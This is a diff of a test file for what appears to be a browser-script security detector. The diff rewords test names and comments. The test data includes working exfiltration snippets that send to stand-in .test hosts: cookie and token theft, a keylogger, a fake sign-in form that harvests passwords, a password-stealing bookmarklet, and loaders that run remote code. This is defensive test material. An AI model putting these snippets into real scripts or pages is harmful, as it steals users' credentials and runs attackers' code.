@@ -4,7 +4,7 @@ import { openTestBrowser, runBookmarklet, runSample, seen } from "./canary.test-
 const browser = openTestBrowser();
 afterAll(() => browser.close());
 
-/** Each snippet in a world of its own, speaking to `<name>.test`. */
+/** Joins snippets; each runs in its own function and sends to `<name>.test`. */
 const together = (snippets: Readonly<Record<string, string>>) =>
 	Object.entries(snippets)
 		.map(([name, body]) => `(async (at) => { ${body} })('https://${name}.test').catch(() => 0);`)
@@ -12,7 +12,7 @@ const together = (snippets: Readonly<Record<string, string>>) =>
 const hostsOf = (evidence: readonly { readonly host: string | null }[]) =>
 	[...new Set(evidence.map(({ host }) => host?.split(".").slice(-2)[0]))].toSorted();
 
-/** Ways out of a page; each must be seen by itself. */
+/** Channels by which data can leave a page; each must be detected. */
 const WAYS = {
 	fetch: "fetch(at + '/' + btoa(c), { mode: 'no-cors' })",
 	xhr: "const x = new XMLHttpRequest(); x.open('POST', at); x.send(c)",
@@ -42,7 +42,7 @@ const WAYS = {
 	window: "const w = window.open(at); setTimeout(() => w.postMessage({ c }, '*'), 600)",
 };
 
-/** Kinds of secrets, with what is expected to be named. */
+/** Scripts that send a secret, by the kind that the report must name. */
 const SECRETS = {
 	typed:
 		"let b = ''; addEventListener('keydown', (e) => { b += e.key; if (b.length > 30) { new Image().src = at + '/?' + b; b = '' } }, true)",
@@ -69,7 +69,7 @@ const SECRETS = {
 	address: "new Image().src = at + '/?' + encodeURIComponent(location.href)",
 };
 
-/** Ways to run what a server has answered. */
+/** Ways to run code from a response. */
 const CODE = {
 	element: "document.head.append(Object.assign(document.createElement('script'), { src: at + '/a.js' }))",
 	module: "import(at + '/a.mjs')",
@@ -82,8 +82,8 @@ const CODE = {
 	kept: "if (localStorage.kept) Function(localStorage.kept)(); localStorage.kept = await (await fetch(at + '/a.txt')).text()",
 };
 
-describe("a secret that leaves", () => {
-	it("is seen on every way out", async () => {
+describe("a secret that is sent", () => {
+	it("is detected on every channel", async () => {
 		const report = await runSample(
 			browser,
 			`const c = document.cookie, token = localStorage.getItem('token');\n${together(WAYS)}`,
@@ -92,14 +92,14 @@ describe("a secret that leaves", () => {
 		expect(hostsOf(report.evidence)).toEqual(Object.keys(WAYS).toSorted());
 	});
 
-	it("is seen, whatever it is", async () => {
+	it("is detected for every kind of secret", async () => {
 		const report = await runSample(browser, together(SECRETS));
 		const named = { stored: "password", paid: "card" } as Readonly<Record<string, string>>;
 		const expected = Object.keys(SECRETS).map((name) => `${named[name] ?? name}>${name}.test`);
 		expect(seen(report)).toEqual(expect.arrayContaining(expected));
 	});
 
-	it("is seen when the page itself goes there, hours later", async () => {
+	it("is detected in a navigation of the page hours later", async () => {
 		const report = await runSample(
 			browser,
 			"setTimeout(() => location.assign('https://gone.test/?' + document.cookie), 3600e3)",
@@ -107,7 +107,7 @@ describe("a secret that leaves", () => {
 		expect(seen(report)).toContain("cookie>gone.test");
 	});
 
-	it("is seen when a form of the script asks for it, or any window that asks is answered", async () => {
+	it("is detected when a form of the script asks for it, or the script answers any window's message", async () => {
 		const asks =
 			"document.body.insertAdjacentHTML('beforeend', '<form class=again>Your session has expired. Sign in again <input type=password name=pass><button>Sign in</button></form>'); const f = document.querySelector('.again'); f.onsubmit = (e) => { e.preventDefault(); fetch(at, { method: 'POST', mode: 'no-cors', body: f.pass.value }) }";
 		const answers =
@@ -119,14 +119,14 @@ describe("a secret that leaves", () => {
 		expect(seen(report)).toEqual(expect.arrayContaining(["password>asking.test", "cookie>widgets.partner-site.test"]));
 	});
 
-	it("is seen through the manager's functions, a day later, on another visit", async () => {
+	it("is detected through the userscript API on another visit a day later", async () => {
 		const body = `GM_setValue('seen', GM_getValue('seen', '') + document.cookie);
 			const last = GM_getValue('last', 0); if (Date.now() - last > 864e5) { GM_setValue('last', Date.now()); if (last) GM_xmlhttpRequest({ method: 'POST', url: 'https://x.test/day', data: GM_getValue('seen') }); }`;
 		const lines = ["@match https://*/*", "@grant GM_xmlhttpRequest", "@connect x.test"];
 		expect(seen(await runSample(browser, body, lines))).toEqual(["cookie>x.test"]);
 	});
 
-	it("is seen when a bookmarklet sends it", async () => {
+	it("is detected when a bookmarklet sends it", async () => {
 		const report = await runBookmarklet(
 			browser,
 			"javascript:void(new Image().src='https://x.test/?'+document.querySelector('#password').value)",
@@ -134,20 +134,20 @@ describe("a secret that leaves", () => {
 		expect(seen(report)).toEqual(["password>x.test"]);
 	});
 
-	it("is seen when the page in a frame tells the page around it", async () => {
+	it("is detected when a framed page posts it to its parent", async () => {
 		const body =
 			"if (window !== window.top) addEventListener('change', (e) => parent.postMessage({ v: e.target.value }, '*'))";
 		expect(seen(await runSample(browser, body))).toEqual(["typed>portal.partner-site.test"]);
 	});
 });
 
-describe("other people's code", () => {
-	it("is seen when it runs, on every way in", async () => {
+describe("code of other sites", () => {
+	it("is detected on every way of running it", async () => {
 		const { evidence } = await runSample(browser, together(CODE));
 		expect(hostsOf(evidence.filter(({ what }) => what === "remote-code"))).toEqual(Object.keys(CODE).toSorted());
 	});
 
-	it("is seen when the script runs what stands in an address or a message", async () => {
+	it("is detected when the script runs content of an address or a message", async () => {
 		const address =
 			"if (location.hash.length > 1) document.body.insertAdjacentHTML('beforeend', decodeURIComponent(location.hash.slice(1)))";
 		const { evidence } = await runSample(browser, address);
@@ -157,14 +157,14 @@ describe("other people's code", () => {
 		expect(messaged.evidence).toMatchObject([{ what: "injected-code", via: "a message of another window" }]);
 	});
 
-	it("is not what runs when its integrity is pinned, nor on a public store", async () => {
+	it("is not reported when its integrity is pinned or it comes from a public store", async () => {
 		const body = `document.head.append(Object.assign(document.createElement('script'), { src: 'https://x.test/a.js', integrity: 'sha384-${"A".repeat(64)}', crossOrigin: 'anonymous' }), Object.assign(document.createElement('script'), { src: 'https://unpkg.com/lodash@4.17.21/lodash.js' }))`;
 		expect(seen(await runSample(browser, body))).toEqual([]);
 	});
 });
 
 describe("a wallet", () => {
-	it("is watched: payments, the clipboard, the page, transactions of the script's own", async () => {
+	it("is protected: payments, clipboard, page and the script's own transactions are checked", async () => {
 		const other = "'0x' + 'ab'.repeat(20)";
 		const { evidence } = await runSample(
 			browser,
